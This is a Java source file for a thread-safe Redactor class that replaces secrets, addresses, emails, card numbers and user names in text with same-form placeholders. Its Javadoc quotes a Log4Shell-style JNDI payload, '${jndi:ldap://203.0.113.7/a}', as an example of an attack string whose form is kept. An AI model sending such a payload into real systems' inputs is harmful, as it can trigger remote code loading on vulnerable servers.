package dev.minga.node.redaction;

import java.util.Collection;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * Takes what is private out of a text and puts placeholders of the same form there, so that an attack stays one: {@code
 * ${jndi:ldap://203.0.113.7/a}} becomes {@code ${jndi:ldap://198.18.0.1/a}}. The same value gets the same placeholder; numbers
 * begin anew in each text. What comes out is a function of that text (and of the names of its own record) alone, and redacting
 * it again changes nothing. Takes time linear in the text. Immutable; safe for use by many threads.
 *
 * <p>No rule finds everything: what is private in a form that none of them knows stays.
 */
public final class Redactor {
    /** Leaves every text as it is. */
    public static final Redactor NONE = new Redactor(Set.of());

    private static final int MOST_PASSES = 6;
    private static final int MOST_NESTING = 2;

    private final Set<RedactionKind> kinds;

    /** Takes out these. */
    public Redactor(Set<RedactionKind> kinds) {
        this.kinds = Set.copyOf(kinds);
    }

    /** What is taken out. */
    public Set<RedactionKind> kinds() {
        return kinds;
    }

    /** A text of a record that says nothing of users. */
    public Redacted redact(String text) {
        return redact(text, List.of());
    }

    /**
     * A text, in which these names of its record's users are replaced wherever they stand as a word.
     *
     * @param users as fields of the record have them
     */
    public Redacted redact(String text, Collection<String> users) {
        return redact(text, users, 0);
    }

    /** The same of a text that stands encoded in another one. */
    Redacted redact(String text, Collection<String> users, int nesting) {
        if (kinds.isEmpty() || nesting > MOST_NESTING) {
            return new Redacted(text, Map.of());
        }
        Map<RedactionKind, Integer> counts = new EnumMap<>(RedactionKind.class);
        String before = text;
        for (int pass = 0; pass < MOST_PASSES; pass++) {
            Redacted once = once(before, users, nesting);
            once.counts().forEach((kind, count) -> counts.merge(kind, count, Integer::sum));
            if (once.text().equals(before)) {
                break;
            }
            before = once.text();
        }
        return new Redacted(before, counts);
    }

    private Redacted once(String text, Collection<String> users, int nesting) {
        Findings findings = new Findings(FoldedText.of(text));
        if (kinds.contains(RedactionKind.KEY)) {
            Keys.find(findings);
        }
        if (kinds.contains(RedactionKind.TOKEN)) {
            Tokens.find(findings);
        }
        if (kinds.contains(RedactionKind.EMAIL)) {
            Emails.find(findings);
        }
        if (kinds.contains(RedactionKind.IP)) {
            Addresses.find(findings);
        }
        if (kinds.contains(RedactionKind.CARD)) {
            Cards.find(findings);
        }
        if (kinds.contains(RedactionKind.USER)) {
            Users.find(findings, users);
        }
        RandomStrings.find(findings, kinds.contains(RedactionKind.TOKEN), inner -> redact(inner, users, nesting + 1));
        return findings.replaced(text);
    }
}
